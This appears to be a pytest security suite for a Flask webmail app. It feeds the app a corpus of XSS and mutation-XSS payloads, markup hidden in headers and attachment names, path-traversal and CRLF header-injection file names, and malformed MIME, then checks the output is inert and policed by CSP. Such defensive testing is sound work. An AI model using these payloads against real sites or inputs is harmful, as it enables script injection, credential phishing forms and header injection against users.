"""Hostile mail (issue 5, items 1-4): delivered into the demo server, fetched through the app,
then every page that shows it is read back and checked for anything that could run or leak.

1. HTML bodies from a corpus of known XSS and mutation-XSS payloads come out of /body inert,
   served under a strict policy of their own; the app's pages carry theirs.
2. Markup in subjects, addresses, names and file names is text on every page.
3. Attachments are downloads with a safe name, never a page of the app's origin.
4. Malformed MIME shows what it can and never answers 500.
"""

from __future__ import annotations

import base64
import hashlib
import re
import urllib.parse
from collections.abc import Iterator

import pytest
from flask import Flask
from flask.testing import FlaskClient

from app import create_app
from app.demo.server import DemoMailServer
from app.mail.security import Security
from tests.security.conftest import deliver_and_fetch, inbox_messages, only_message
from tests.security.fakes import FakeMailServer
from tests.security.pages import (
    app_page_problems,
    body_problems,
    csp_directives,
    parse,
)
from tests.web.conftest import app_config, log_in, post_form

ALICE = "alice@demo.pochta.test"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def message(*headers: str, body: bytes | str = b"", content_type: str = "text/plain") -> bytes:
    """A raw message: the headers as given (a Content-Type unless one is there), CRLF."""
    lines = [*headers]
    if not any(h.lower().startswith("content-type:") for h in headers):
        lines.append(f"Content-Type: {content_type}; charset=utf-8")
    if not any(h.lower().startswith("from:") for h in headers):
        lines.insert(0, "From: Mallory <mallory@evil.example>")
    lines.insert(0, f"To: {ALICE}")
    head = "\r\n".join(lines).encode()
    data = body.encode() if isinstance(body, str) else body
    return head + b"\r\n\r\n" + data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def multipart(subtype: str, boundary: str, *parts: bytes, headers: tuple[str, ...] = ()) -> bytes:
    inner = b"".join(b"--" + boundary.encode() + b"\r\n" + p + b"\r\n" for p in parts)
    return message(
        *headers, "MIME-Version: 1.0",
        f'Content-Type: multipart/{subtype}; boundary="{boundary}"',
        body=inner + b"--" + boundary.encode() + b"--\r\n",
    )


def part(*headers: str, body: bytes | str) -> bytes:
    data = body.encode() if isinstance(body, str) else body
    return "\r\n".join(headers).encode() + b"\r\n\r\n" + data


# -- 1. HTML mail: a corpus of XSS payloads -----------------------------------------------------

XSS = {
    "script": "<script>alert(1)</script>",
    "script-uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-backtick": "<img src=`x` onerror=alert(1)>",
    "img-quote-breakout": '<img """><script>alert(1)</script>">',
    "body-onload": "<body onload=alert(1)><p>hello</p></body>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg-set-href": "<svg><a><set attributeName=href to=javascript:alert(1) />"
                    "<text>x</text></a></svg>",
    "svg-image-href": "<svg><image href=//evil.example/x.png /></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>',
    "mxss-svg-style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "mxss-math-mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mxss-math-href": '<math href="javascript:alert(1)">x</math>',
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mxss-form-nesting": "<form><math><mtext></form><form><mglyph><style></math>"
                         "<img src onerror=alert(1)>",
    "mxss-template": "<template><img src=x onerror=alert(1)></template>",
    "mxss-textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
    "mxss-xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "mxss-title": "<title><img src=x onerror=alert(1)></title>",
    "mxss-comment": "<!--<img src=x onerror=alert(1)>-->",
    "mxss-conditional-comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "mxss-cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "mxss-style-closing": "<style></style><img src=x onerror=alert(1)></style>",
    "href-javascript": '<a href="javascript:alert(1)">x</a>',
    "href-javascript-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "href-javascript-newline-entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "href-javascript-leading-space": '<a href=" &#14; JaVaScRiPt:alert(1)">x</a>',
    "href-javascript-decimal": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;'
                               '&#116;&#58;alert(1)">x</a>',
    "href-javascript-colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "href-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "href-data-html": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "href-scheme-relative": '<a href="//evil.example/">x</a>',
    "href-app-relative": '<a href="/logout">x</a>',
    "a-ping": '<a href="https://example.org/" ping="//evil.example/ping">x</a>',
    "a-target-opener": '<a href="https://example.org/" target="_self" rel="opener">x</a>',
    "img-data-svg": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "img-data-png": f'<img src="data:image/png;base64,{base64.b64encode(PNG).decode()}">',
    "img-remote-scheme-relative": "<img src=//evil.example/x.png>",
    "img-remote-http": "<img src=http://evil.example/x.png>",
    "img-srcset": '<img srcset="//evil.example/a.png 1x, //evil.example/b.png 2x">',
    "picture-source": "<picture><source srcset=//evil.example/a.png><img alt=x></picture>",
    "img-lowsrc": "<img lowsrc=//evil.example/x.png dynsrc=//evil.example/y.avi>",
    "img-cid-unknown": '<img src="cid:nothing@here">',
    "video-poster": "<video poster=//evil.example/p.png><source src=//evil.example/v.mp4></video>",
    "audio": "<audio src=//evil.example/a.mp3 autoplay></audio>",
    "table-background": "<table background=//evil.example/bg.png><tr><td>x</td></tr></table>",
    "input-image": "<input type=image src=//evil.example/x.png>",
    "style-url-javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "style-expression": '<div style="width:expression(alert(1))">x</div>',
    "style-url-remote": '<div style="background-image:url(//evil.example/t.png)">x</div>',
    "style-url-escaped": '<div style="background:u\\72l(//evil.example/t.png)">x</div>',
    "style-url-commented": '<div style="background:url/**/(//evil.example/t.png)">x</div>',
    "style-allowed-property-url": '<p style="font-family:url(//evil.example/f.woff)">x</p>',
    "style-allowed-property-expression": '<p style="height:expression(alert(1))">x</p>',
    "style-allowed-property-import": '<p style="border:@import \'//evil.example\'">x</p>',
    "style-behavior": '<div style="behavior:url(//evil.example/x.htc)">x</div>',
    "style-moz-binding": '<div style="-moz-binding:url(//evil.example/x.xml#xss)">x</div>',
    "style-image-set": '<div style="background:image-set(\'//evil.example/x.png\' 1x)">x</div>',
    "style-element": "<style>@import url(//evil.example/x.css); "
                     "body{background:url(//evil.example/b)}</style>",
    "link-stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta-refresh-remote": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="//evil.example/"><a href="page.html">x</a><img src="x.png">',
    "form": "<form action=//evil.example method=post><input name=password type=password>"
            "<button>go</button></form>",
    "formaction": "<button formaction=javascript:alert(1)>x</button>",
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    "keygen": "<keygen autofocus onfocus=alert(1)>",
    "object-data": '<object data="javascript:alert(1)"></object>',
    "object-flash": "<object data=//evil.example/x.swf type=application/x-shockwave-flash>"
                    "<param name=allowScriptAccess value=always></object>",
    "embed": "<embed src=//evil.example/x.swf>",
    "applet": "<applet code=Evil codebase=//evil.example/></applet>",
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "frameset": "<frameset><frame src=//evil.example/></frameset>",
    "blockquote-cite": '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "utf7": None,  # the body below, in charset=utf-7
}
UTF7_BODY = "+ADw-script+AD4-alert(1)+ADw-/script+AD4-+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-"


def xss_message(name: str) -> bytes:
    subject = f"Subject: xss {name}"
    if name == "utf7":
        return message(subject, "MIME-Version: 1.0", "Content-Type: text/html; charset=utf-7",
                       body=UTF7_BODY)
    html = f"<html><body><p>before</p>{XSS[name]}<p>after</p></body></html>"
    return message(subject, "MIME-Version: 1.0", "Content-Type: text/html; charset=utf-8",
                   body=html)


class Site:
    """One app and mail server with the whole corpus fetched, shared by the module's tests."""

    def __init__(self, client: FlaskClient, ids: dict[str, str]) -> None:
        self.client = client
        self.ids = ids


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    tmp_path = tmp_path_factory.mktemp("hostile")
    with DemoMailServer(tmp_path / "mailserver", users={"alice": "alice-pw"},
                        pop3_security=Security.TLS, smtp_security=Security.STARTTLS) as server:
        application = create_app(app_config(tmp_path, server))
        try:
            client = application.test_client()
            log_in(client, server)
            shown = deliver_and_fetch(client, server, *(xss_message(n) for n in XSS))
            ids = {subject.removeprefix("xss "): mid for mid, subject in shown}
            assert set(ids) == set(XSS)
            yield Site(client, ids)
        finally:
            application.extensions["pochta.store"].close()


@pytest.mark.parametrize("name", sorted(XSS))
def test_html_payload_comes_out_of_body_inert(corpus: Site, name: str) -> None:
    response = corpus.client.get(f"/message/{corpus.ids[name]}/body")
    assert response.status_code == 200
    assert response.mimetype == "text/html"
    document = response.get_data(as_text=True)
    assert body_problems(document) == []
    assert "before" in document or name == "utf7"  # what follows may be swallowed


@pytest.mark.parametrize("name", sorted(XSS))
def test_html_payload_leaves_the_message_page_inert(corpus: Site, name: str) -> None:
    for view in ("", "?view=text", "?images=1"):
        response = corpus.client.get(f"/message/{corpus.ids[name]}{view}")
        assert response.status_code == 200, view
        assert app_page_problems(response.get_data(as_text=True)) == [], view


@pytest.mark.parametrize("name", ["img-remote-http", "style-element", "href-javascript"])
def test_remote_images_shown_on_request_still_run_nothing(corpus: Site, name: str) -> None:
    response = corpus.client.get(f"/message/{corpus.ids[name]}/body?images=1")
    assert body_problems(response.get_data(as_text=True), remote_images=True) == []


def test_body_document_has_its_own_strict_policy(corpus: Site) -> None:
    for query, images in (("", False), ("?images=1", True)):
        response = corpus.client.get(f"/message/{corpus.ids['script']}/body{query}")
        csp = response.headers.get("Content-Security-Policy", "")
        directives = csp_directives(csp)
        assert directives.get("default-src") == ["'none'"], csp
        assert "sandbox" in directives, csp
        assert not {"allow-scripts", "allow-same-origin", "allow-forms",
                    "allow-top-navigation"} & set(directives["sandbox"]), csp
        assert "script-src" not in directives and "script-src-elem" not in directives, csp
        assert "unsafe-eval" not in csp and "strict-dynamic" not in csp, csp
        assert directives.get("base-uri") == ["'none'"], csp
        assert directives.get("form-action") == ["'none'"], csp
        assert directives.get("frame-ancestors") in (["'self'"], ["'none'"]), csp
        img = set(directives.get("img-src", []))
        assert img <= {"'self'", "data:", "http:", "https:"}, csp
        assert bool(img & {"http:", "https:"}) == images, csp
        assert response.headers.get("X-Content-Type-Options") == "nosniff"


def test_message_page_frames_the_body_in_a_sandbox(corpus: Site) -> None:
    page = corpus.client.get(f"/message/{corpus.ids['script']}").get_data(as_text=True)
    frames = parse(page).find("iframe")
    assert len(frames) == 1
    sandbox = frames[0].get("sandbox")
    assert sandbox is not None
    assert not {"allow-scripts", "allow-same-origin"} & set(sandbox.split())
    assert frames[0].get("src", ) == f"/message/{corpus.ids['script']}/body"


def test_remote_images_are_held_back_until_asked(corpus: Site) -> None:
    mid = corpus.ids["img-remote-http"]
    held = corpus.client.get(f"/message/{mid}/body").get_data(as_text=True)
    assert "evil.example" not in held
    page = corpus.client.get(f"/message/{mid}").get_data(as_text=True)
    assert f"/message/{mid}?images=1" in page  # the offer to show them
    shown = corpus.client.get(f"/message/{mid}/body?images=1").get_data(as_text=True)
    assert [e.get("src") for e in parse(shown).find("img")] == ["http://evil.example/x.png"]


APP_PAGES = ("/inbox", "/compose", "/log", "/message/{id}", "/message/{id}/headers",
             "/message/{id}?view=text", "/nowhere")


@pytest.mark.parametrize("path", ["/login", *APP_PAGES])
def test_app_pages_carry_a_strict_policy_and_friends(corpus: Site, client: FlaskClient,
                                                      path: str) -> None:
    who = client if path == "/login" else corpus.client
    response = who.get(path.format(id=corpus.ids["script"]))
    assert response.status_code in (200, 404)
    csp = response.headers.get("Content-Security-Policy", "")
    directives = csp_directives(csp)
    scripts = directives.get("script-src", directives.get("default-src"))
    assert scripts, csp
    assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:",
                "blob:"} & set(scripts), csp
    assert directives.get("object-src") == ["'none'"], csp
    assert directives.get("frame-ancestors") in (["'none'"], ["'self'"]), csp
    assert directives.get("base-uri") in (["'none'"], ["'self'"]), csp
    assert response.headers.get("X-Content-Type-Options") == "nosniff"
    assert response.headers.get("Referrer-Policy") in ("no-referrer", "same-origin")
    assert response.headers.get("X-Frame-Options") in ("DENY", "SAMEORIGIN")
    assert app_page_problems(response.get_data(as_text=True)) == []


def test_embedded_images_are_ours_and_raster_only(app: Flask, logged_in: FlaskClient,
                                                  mail_server: DemoMailServer) -> None:
    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
           b"<script>alert(2)</script></svg>")
    raw = multipart(
        "related", "rel-b",
        part("Content-Type: text/html; charset=utf-8",
             body='<p>logo</p><img src="cid:logo@x"><img src="cid:vector@x">'),
        part("Content-Type: image/png", "Content-Transfer-Encoding: base64",
             "Content-ID: <logo@x>", body=base64.encodebytes(PNG)),
        part("Content-Type: image/svg+xml", "Content-ID: <vector@x>", body=svg),
        headers=("Subject: embedded",),
    )
    mid = only_message(logged_in, mail_server, raw)
    document = logged_in.get(f"/message/{mid}/body").get_data(as_text=True)
    ours = f"data:image/png;base64,{base64.b64encode(PNG).decode()}"
    assert [e.get("src") for e in parse(document).find("img") if e.get("src")] == [ours]
    assert body_problems(document, embedded={ours}) == []
    assert "svg" not in document.lower()


# -- 2. markup in headers and names is text on every page ---------------------------------------

def encoded(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


MARKS = {
    "subject": "<script>alert('subject')</script>\"'><img src=x onerror=alert('subject')>",
    "from": "<img src=x onerror=alert('from')>",
    "to": "<svg onload=alert('to')>",
    "cc": "\"><iframe src=javascript:alert('cc')>",
    "reply_to": "<a href=javascript:alert('rt')>click",
    "file": "<img src=x onerror=alert('file')>.txt",
    "body": "</textarea><script>alert('body')</script><img src=x onerror=alert('body')>",
}


def hostile_headers_message() -> bytes:
    quoted_file = urllib.parse.quote(MARKS["file"])
    return multipart(
        "mixed", "hh-b",
        part("Content-Type: text/plain; charset=utf-8", body=MARKS["body"]),
        part("Content-Type: text/plain; charset=utf-8",
             f"Content-Disposition: attachment; filename*=utf-8''{quoted_file}", body="data"),
        part("Content-Type: text/plain",
             "Content-Disposition: attachment; filename=\"<svg onload=alert('file2')>.txt\"",
             body="more"),
        headers=(
            f"Subject: {encoded(MARKS['subject'])}",
            f"From: \"{MARKS['from']}\" <mallory@evil.example>",
            f"Cc: {encoded(MARKS['to'])} <carol@demo.pochta.test>, "
            f"{encoded(MARKS['cc'])} <x@evil.example>",
            f"Reply-To: {encoded(MARKS['reply_to'])} <rt@evil.example>",
            "Message-ID: <hostile.headers@evil.example>",
        ),
    )


def shown(page: str, text: str) -> bool:
    """`text` is on the page as text (or as a form field's value), not as markup."""
    document = parse(page)
    return text in document.text or any(text in v for e in document.elements for _, v in e.attrs)


PAGES_SHOWING = {
    "/inbox": ("subject", "from", "body"),
    "/message/{id}": ("subject", "from", "to", "cc", "reply_to", "file", "body"),
    "/message/{id}/headers": ("subject", "from", "to", "cc", "reply_to"),
    "/compose?reply={id}": ("subject", "reply_to", "body"),
    "/compose?reply={id}&all=1": ("subject", "reply_to", "to", "cc", "body"),
    "/compose?forward={id}": ("subject", "from", "body", "file"),
    "/compose?forward={id}&mode=attachment": ("subject",),
}


@pytest.mark.parametrize("path", sorted(PAGES_SHOWING))
def test_markup_in_headers_is_text_on_every_page(app: Flask, logged_in: FlaskClient,
                                                 mail_server: DemoMailServer, path: str) -> None:
    mid = only_message(logged_in, mail_server, hostile_headers_message())
    response = logged_in.get(path.format(id=mid))
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert app_page_problems(page) == []
    for field in PAGES_SHOWING[path]:
        assert shown(page, MARKS[field]), f"{field} is not shown as text on {path}"


def test_markup_in_the_subject_and_language_is_text_in_the_body_document(
        app: Flask, logged_in: FlaskClient, mail_server: DemoMailServer) -> None:
    raw = message(f"Subject: {encoded(MARKS['subject'])}",
                  "Content-Language: \"><script>alert('lang')</script>",
                  "MIME-Version: 1.0", "Content-Type: text/html; charset=utf-8",
                  body="<p>hello</p>")
    mid = only_message(logged_in, mail_server, raw)
    document = logged_in.get(f"/message/{mid}/body").get_data(as_text=True)
    assert body_problems(document) == []
    assert not parse(document).find("script")
    assert shown(document, MARKS["subject"])


def test_markup_in_a_failed_compose_comes_back_as_text(app: Flask, logged_in: FlaskClient,
                                                       mail_server: DemoMailServer) -> None:
    typed = {"to": '"<script>alert(1)</script>" <bob@demo.pochta.test>, <svg onload=alert(2)>',
             "subject": MARKS["subject"], "body": MARKS["body"]}
    response = post_form(logged_in, "/compose", typed)
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert app_page_problems(page) == []
    assert all(shown(page, value) for value in typed.values())


def test_markup_in_server_words_is_text_on_the_log_and_login_pages(
        app: Flask, client: FlaskClient) -> None:
    words = "<img src=x onerror=alert('greeting')><script>alert('greeting')</script>"
    with FakeMailServer(greeting=words, smtp_greeting=words,
                        passwords={"mallory": "right"}, refusal=words) as fake:
        settings = {"pop3_host": "127.0.0.1", "pop3_port": fake.pop3_port,
                    "pop3_security": "none", "smtp_host": "127.0.0.1",
                    "smtp_port": fake.smtp_port, "smtp_security": "none",
                    "email": "mallory@evil.example", "username": "mallory"}
        refused = post_form(client, "/login", {**settings, "password": "wrong"})
        assert refused.status_code == 403
        assert app_page_problems(refused.get_data(as_text=True)) == []
        assert shown(refused.get_data(as_text=True), words)

        accepted = post_form(client, "/login", {**settings, "password": "right"})
        assert accepted.status_code == 303
        page = client.get("/log").get_data(as_text=True)
        assert app_page_problems(page) == []
        assert shown(page, words)
        text = client.get("/log?format=text")
        assert text.mimetype == "text/plain"
        assert text.headers.get("X-Content-Type-Options") == "nosniff"


# -- 3. attachments are downloads, never pages of our origin ------------------------------------

ATTACHMENTS = {
    "page.html": ("text/html", b"<script>alert(document.cookie)</script>"),
    "image.svg": ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "page.xhtml": ("application/xhtml+xml", b'<html xmlns="http://www.w3.org/1999/xhtml">'
                                            b"<script>alert(1)</script></html>"),
    "data.xml": ("text/xml", b'<?xml-stylesheet href="x.xsl"?><x/>'),
    "plain-but-html.txt": ("text/plain", b"<html><script>alert(1)</script></html>"),
    "script.js": ("application/javascript", b"alert(1)"),
    "style.css": ("text/css", b"body{background:url(//evil.example)}"),
    "sniff.png": ("image/png", b"<html><script>alert(1)</script></html>"),
    "bogus-type": ("text/html; x=\"", b"<script>alert(1)</script>"),
}
ACTIVE_TYPES = ("html", "xml", "svg", "javascript", "ecmascript", "css")


def attachments_message(names: dict[str, tuple[str, bytes]]) -> bytes:
    parts = [part("Content-Type: text/plain; charset=utf-8", body="see attached")]
    for name, (ctype, data) in names.items():
        parts.append(part(f"Content-Type: {ctype}", "Content-Transfer-Encoding: base64",
                          f'Content-Disposition: inline; filename="{name}"',
                          body=base64.encodebytes(data)))
    return multipart("mixed", "att-b", *parts, headers=("Subject: attachments",))


def part_links(client: FlaskClient, mid: str) -> list[tuple[str, str]]:
    """(download URL, shown name) of each attachment listed on the message page."""
    page = parse(client.get(f"/message/{mid}").get_data(as_text=True))
    return [(a.get("href") or "", a.get("download")) for a in page.find("a")
            if (a.get("href") or "").startswith(f"/message/{mid}/part/")]


def test_attachments_are_opaque_downloads(app: Flask, logged_in: FlaskClient,
                                          mail_server: DemoMailServer) -> None:
    mid = only_message(logged_in, mail_server, attachments_message(ATTACHMENTS))
    links = part_links(logged_in, mid)
    assert len(links) == len(ATTACHMENTS)
    for href, download in links:
        assert download is not None, f"{href} is not marked as a download"
        response = logged_in.get(href)
        assert response.status_code == 200, href
        disposition = response.headers["Content-Disposition"]
        assert disposition.startswith("attachment;"), disposition
        assert response.headers.get("X-Content-Type-Options") == "nosniff"
        mimetype = response.mimetype.lower()
        assert not any(kind in mimetype for kind in ACTIVE_TYPES), (href, mimetype)
        directives = csp_directives(response.headers.get("Content-Security-Policy", ""))
        assert directives.get("default-src") == ["'none'"] and "sandbox" in directives, href


# RFC 6266: a quoted ASCII fallback without quotes or backslashes, then the exact name.
DISPOSITION = re.compile(r'attachment; filename="([ -!#-\[\]-~]*)"; filename\*=([\w-]+)\'\'(\S+)')
HOSTILE_NAMES = {
    "quote": 'a"b;c=d.txt',
    "path": "../../../etc/passwd",
    "windows-path": "..\\..\\boot.ini",
    "crlf": "x.txt\r\nSet-Cookie: stolen=1",
    "nul-and-controls": "evil\x00\x07\x1b.txt",
    "unicode": "отчёт «итог».pdf",
    "rtl-override": "invoice\u202egpj.exe",
    "dots": "...",
    "long": "a" * 500 + ".txt",
}


@pytest.mark.parametrize("key", sorted(HOSTILE_NAMES))
def test_download_file_names_are_safe(app: Flask, logged_in: FlaskClient,
                                      mail_server: DemoMailServer, key: str) -> None:
    name = HOSTILE_NAMES[key]
    quoted = urllib.parse.quote(name)
    raw = multipart(
        "mixed", "fn-b",
        part("Content-Type: text/plain", body="see attached"),
        part("Content-Type: application/octet-stream",
             f"Content-Disposition: attachment; filename*=utf-8''{quoted}", body="data"),
        headers=("Subject: file name",),
    )
    mid = only_message(logged_in, mail_server, raw)
    ((href, _),) = part_links(logged_in, mid)
    response = logged_in.get(href)
    assert response.status_code == 200
    disposition = response.headers["Content-Disposition"]
    assert disposition.isascii() and disposition.isprintable(), disposition
    assert "\r" not in disposition and "\n" not in disposition
    assert "Set-Cookie" not in response.headers
    match = DISPOSITION.fullmatch(disposition)
    assert match, disposition
    fallback, charset, encoded_name = match.groups()
    assert "\\" not in fallback and "/" not in fallback and fallback.strip(". ")
    assert charset.upper() == "UTF-8"
    assert re.fullmatch(r"[A-Za-z0-9!#$&+.^_`|~%-]+", encoded_name), encoded_name
    decoded = urllib.parse.unquote(encoded_name, errors="strict")
    assert decoded and "/" not in decoded and "\\" not in decoded
    assert decoded.isprintable() and not decoded.startswith(".")
    assert "\u202e" not in decoded, "a bidi override disguises the extension"


def test_raw_source_of_an_html_message_is_plain_text(corpus: Site) -> None:
    response = corpus.client.get(f"/message/{corpus.ids['script']}/raw")
    assert response.status_code == 200
    assert response.mimetype == "text/plain"
    assert response.headers.get("X-Content-Type-Options") == "nosniff"
    directives = csp_directives(response.headers.get("Content-Security-Policy", ""))
    assert directives.get("default-src") == ["'none'"] and "sandbox" in directives


# -- 4. malformed MIME --------------------------------------------------------------------------

def nested(depth: int) -> bytes:
    """A message whose text sits `depth` multiparts deep."""
    inner = part("Content-Type: text/plain", body="the innermost words")
    for level in range(depth):
        boundary = f"n{level}".encode()
        inner = part(f'Content-Type: multipart/mixed; boundary="n{level}"',
                     body=b"--" + boundary + b"\r\n" + inner + b"\r\n--" + boundary + b"--")
    head, body = inner.split(b"\r\n\r\n", 1)
    return message("Subject: nested", "MIME-Version: 1.0", head.decode(), body=body)


MALFORMED = {
    "broken-base64": (multipart(
        "mixed", "b64",
        part("Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64",
             body=base64.b64encode(b"visible words ") + b"!!!=not*base64\xff"),
        part("Content-Type: image/png", "Content-Transfer-Encoding: base64",
             "Content-Disposition: attachment; filename=x.png", body="%%%%"),
        headers=("Subject: broken base64",)), None),
    "unknown-charset": (message("Subject: =?x-klingon?q?visible_subject?=",
                                "Content-Type: text/plain; charset=x-klingon",
                                body="visible words"), "visible words"),
    "unknown-transfer-encoding": (message("Subject: cte", "Content-Transfer-Encoding: x-rot13",
                                          body="visible words"), "visible words"),
    "missing-boundary-parameter": (message(
        "Subject: no boundary", "MIME-Version: 1.0", "Content-Type: multipart/mixed",
        body="--x\r\nContent-Type: text/plain\r\n\r\nvisible words\r\n--x--"), "visible words"),
    "boundary-never-closed": (message(
        "Subject: open", "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="b"',
        body="--b\r\nContent-Type: text/plain\r\n\r\nvisible words\r\n"), "visible words"),
    "boundary-never-used": (message(
        "Subject: unused", "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="b"',
        body="visible words"), None),
    "nested-60": (nested(60), None),
    "nested-1000": (nested(1000), None),
    "parts-5000-wide": (multipart("mixed", "w", *(
        part("Content-Type: text/plain", body=f"part {i}") for i in range(5000)),
        headers=("Subject: wide",)), "part 0"),
    "header-1mb-line": (message("Subject: long header", "X-Long: " + "a" * (1024 * 1024),
                                body="visible words"), None),
    "header-1mb-folded": (message("Subject: long header",
                                  "X-Folded: " + "\r\n\t".join(["b" * 70] * 15000),
                                  body="visible words"), "visible words"),
    "header-20000-fields": (message("Subject: many", *[f"X-F{i}: v" for i in range(20000)],
                                    body="visible words"), "visible words"),
    "nul-and-8bit-headers": (b"To: alice@demo.pochta.test\r\nSubject: nul\x00\xff\xfe here\r\n"
                             b"From: \x80\x81 <m@evil.example>\r\nno colon line\r\n"
                             b"Date: Feb 30 99999 25:61:61 +9999\r\n\r\nvisible words\r\n",
                             "visible words"),
    "bad-encoded-words": (message("Subject: =?utf-8?B?####?= =?utf-8?Q?=ZZ?= =?x?x?x?=",
                                  "From: =?utf-8?b?PHNjcmlwdD4=?= <m@evil.example>",
                                  body="visible words"), "visible words"),
    "headers-only": (b"To: alice@demo.pochta.test\r\nSubject: headers only\r\n", None),
    "empty-html": (message("Subject: empty html", "Content-Type: text/html", body=""), None),
    "rfc822-garbage": (multipart(
        "mixed", "r",
        part("Content-Type: message/rfc822", body=b"\xff\xfe\x00garbage without headers"),
        part("Content-Type: message/rfc822", "Content-Transfer-Encoding: base64",
             body="not base64"),
        headers=("Subject: rfc822",)), None),
}


@pytest.mark.parametrize("name", sorted(MALFORMED))
def test_malformed_mime_shows_what_it_can_and_never_fails(
        app: Flask, logged_in: FlaskClient, mail_server: DemoMailServer, name: str) -> None:
    raw, visible = MALFORMED[name]
    mid = only_message(logged_in, mail_server, raw)
    page = logged_in.get(f"/message/{mid}")
    assert page.status_code == 200
    if visible:
        assert visible in page.get_data(as_text=True)
    links = [href for href, _ in part_links(logged_in, mid)]
    routes = ["?view=text", "?images=1", "/body", "/raw", "/headers", "/part/0", "/part/1",
              "/part/999999"]
    for route in [*routes, *(link.removeprefix(f"/message/{mid}") for link in links)]:
        response = logged_in.get(f"/message/{mid}{route}")
        assert response.status_code in (200, 404), (route, response.status_code)
    for prefill in (f"/compose?reply={mid}", f"/compose?reply={mid}&all=1",
                    f"/compose?forward={mid}", f"/compose?forward={mid}&mode=attachment"):
        assert logged_in.get(prefill).status_code == 200, prefill
    assert inbox_messages(logged_in)[0][0] == mid


def test_raw_source_of_malformed_mail_is_what_the_server_sent(
        app: Flask, logged_in: FlaskClient, mail_server: DemoMailServer) -> None:
    raw = MALFORMED["nul-and-8bit-headers"][0]
    mid = only_message(logged_in, mail_server, raw)
    served = logged_in.get(f"/message/{mid}/raw").get_data()
    assert hashlib.sha256(served).digest() == hashlib.sha256(raw).digest()
